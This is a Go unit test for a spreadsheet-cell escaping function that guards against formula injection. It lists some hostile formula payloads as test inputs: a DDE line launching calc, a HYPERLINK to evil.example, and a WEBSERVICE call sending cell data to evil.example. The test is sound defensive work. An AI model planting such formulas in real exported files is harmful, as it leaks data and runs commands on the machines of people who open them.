package feedback

import (
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// TestSafeCell checks text that spreadsheets treat as formulas, and text that must not
// change.
func TestSafeCell(t *testing.T) {
	for _, formula := range []string{
		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tharmless", "\rharmless", "\nharmless",
		" =1", "  \t =1", `"=1"`, `'=1`, `" =1`, "\u00a0=1", "\ufeff=1", "\u200b=1", "\u2003+1", "\u202e=1", "\x01=1", "“=1",
		"＝1+1", "＋1", "－1", "＠SUM(A1)", "=", "-", "+49 30 123", "-5",
		`=HYPERLINK("https://evil.example","Click")`, "=cmd|' /C calc'!A0", "@import", `=WEBSERVICE("https://evil.example/"&A1)`,
	} {
		if got := SafeCell(formula); got != "'"+formula {
			t.Errorf("%q became %q", formula, got)
		}
	}
	for _, text := range []string{
		"", " ", `"`, "Dark mode", "1+1", "a=b", "3 - 2", "ada@example.com", "Ünï", "暗い", "'quoted'", "—dash", "|x", "%0A",
	} {
		if got := SafeCell(text); got != text {
			t.Errorf("%q became %q", text, got)
		}
	}
}

// TestSafeCellIsReversible checks that removing the apostrophe restores the text.
func TestSafeCellIsReversible(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.StringOf(rapid.SampledFrom([]rune("=+-@'\" \t\r\na1é＝"))).Draw(t, "text")
		safe := SafeCell(text)
		if safe != text && safe != "'"+text {
			t.Fatalf("%q became %q", text, safe)
		}
		rest := strings.TrimLeft(safe, " \"\t\r\n")
		if rest != "" && strings.ContainsAny(rest[:1], "=+-@") || safe != "" && strings.ContainsAny(safe[:1], "\t\r\n") {
			t.Fatalf("%q is left as %q", text, safe)
		}
	})
}
